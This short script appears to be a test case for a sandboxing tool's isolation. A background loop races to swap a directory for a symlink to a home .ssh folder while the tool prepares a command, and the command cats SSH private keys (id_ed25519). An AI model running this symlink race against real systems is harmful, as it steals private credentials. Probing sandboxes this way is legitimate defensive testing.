# title: exchanges a folder of its own for a link while the host prepares a command
# success: secrets
# where: product
# hooks: not
# timeout: 40
mkdir -p bait target; ( end=$((SECONDS + 8)); while [ $SECONDS -lt $end ]; do mv bait spare 2>/dev/null; ln -s "../../../../home/.ssh" bait; rm bait; mv spare bait 2>/dev/null; done ) &
for i in 1 2 3 4; do lattice evidence run -- sh -c 'cat bait/id_ed25519 .ssh/id_ed25519 "$A_USER_HOME/.ssh/id_ed25519" 2>/dev/null; true'; done; wait; exit 0
